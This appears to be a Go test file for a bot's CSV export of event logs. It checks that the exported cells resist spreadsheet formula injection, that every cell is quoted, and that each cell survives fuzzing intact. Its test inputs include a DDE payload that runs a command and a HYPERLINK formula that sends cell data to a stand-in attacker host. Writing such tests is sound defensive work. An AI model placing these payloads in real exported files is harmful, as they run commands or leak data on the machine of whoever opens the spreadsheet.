package web

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/aurorabot/aurora/internal/event"
)

// formulas are texts that a spreadsheet might run or read as something else.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1",
	"＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "−1", " =1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
	"42", "1e5", "18446744073709551615", "2026-11-21", ".5", "٣", "'=1+1", "=",
}

// spreadsheets of some countries take a semicolon for the end of a cell, whatever the
// quotes are, and others a tab or a line break.
var hidden = []string{"a;=1+1;b", "a\t+1", "a\n-1", "a\r@SUM(A1)", "a\";＝1"}

var plain = []string{"mira claimed 130 coins", "ok; and = is no formula here", `she said "hi"`, "a, b", "\u00e9t\u00e9", "<b>", "日本"}

func TestNoTextOfATableIsTakenForAFormulaOrANumber(t *testing.T) {
	for _, text := range formulas {
		if cell := read(t, text); !strings.HasPrefix(cell, "'") || cell[1:] != newlines(text) && !strings.Contains(text[1:], "=") {
			t.Errorf("%q is read as %q", text, cell)
		}
	}
	for _, text := range hidden {
		cell := read(t, text)
		if at := strings.IndexAny(cell, ";\t\n\r"); cell[at+1] != '\'' {
			t.Errorf("%q is read as %q", text, cell)
		}
	}
	for _, text := range plain {
		if cell := read(t, text); cell != text {
			t.Errorf("%q is read as %q", text, cell)
		}
	}
}

// newlines is a text as any reader of tables reads its line breaks.
func newlines(text string) string { return strings.ReplaceAll(text, "\r\n", "\n") }

// read writes an event with a text everywhere and reads its message back.
func read(t *testing.T, text string) string {
	t.Helper()
	row := table(t, appendCSV(nil, event.Event{
		Seq: 7, Type: text, Severity: event.Info, Source: text, Title: text, Message: text, Command: text, TraceID: text,
		Guild: event.Ref{Name: text}, User: event.Ref{Name: text}, Data: json.RawMessage(text),
	}))[0]
	for _, column := range []int{2, 4, 5, 8, 10, 12, 14, 16} {
		if row[column] != row[6] {
			t.Errorf("column %d of %q is %q, and the message %q", column, text, row[column], row[6])
		}
	}
	return row[6]
}

func table(t *testing.T, text []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(string(text))).ReadAll()
	if err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	return rows
}

func TestAnEventIsARowOfATable(t *testing.T) {
	shard := 0
	e := event.Event{
		Seq: 1042, Epoch: "k3v9", Time: time.Date(2026, 11, 21, 18, 56, 3, 123e6, time.UTC), Type: "economy.daily.claimed", Severity: event.Info,
		Source: "economy", Title: "Daily claimed", Message: `mira, called "the first", claimed`, Guild: event.Ref{ID: 1<<64 - 1, Name: "Town"},
		User: event.Ref{ID: 2001, Name: "mira"}, Shard: &shard, Command: "daily", InteractionID: 77, TraceID: "77", DurationMs: 12.4,
		Data: json.RawMessage(`{"amount":"130"}`),
	}
	text := append([]byte(csvHead), appendCSV(appendCSV(nil, e), event.Event{Seq: 1043, Time: e.Time, Type: "a", Severity: event.Debug})...)
	want := [][]string{
		strings.Split("seq,time,type,severity,source,title,message,guild_id,guild_name,user_id,user_name,shard,command,interaction_id,trace_id,duration_ms,data", ","),
		{
			"1042", "2026-11-21T18:56:03.123Z", "economy.daily.claimed", "info", "economy", "Daily claimed", `mira, called "the first", claimed`,
			"'18446744073709551615", "Town", "'2001", "mira", "0", "daily", "'77", "'77", "12.4", `{"amount":"130"}`,
		},
		{"1043", "2026-11-21T18:56:03.123Z", "a", "debug", "", "", "", "", "", "", "", "", "", "", "", "", ""},
	}
	if diff := cmp.Diff(want, table(t, text)); diff != "" {
		t.Error(diff)
	}
	for line := range strings.SplitSeq(strings.TrimSuffix(string(text), "\r\n"), "\r\n") {
		if strings.Count(line, `","`) != len(want[0])-1 || line[0] != '"' || line[len(line)-1] != '"' {
			t.Errorf("not all cells are quoted: %s", line)
		}
	}
}

func FuzzACellIsOneCellOfText(f *testing.F) {
	for _, text := range append(append(formulas, hidden...), plain...) {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		rows := table(t, append(appendTexts(nil, text, "end"), '\n'))
		if len(rows) != 1 || len(rows[0]) != 3 || rows[0][1] != "end" {
			t.Fatalf("%q became %q", text, rows)
		}
		if first, _ := utf8.DecodeRuneInString(rows[0][0]); text != "" && first != '\'' && misread(first) {
			t.Errorf("%q is read as %q", text, rows[0][0])
		}
	})
}
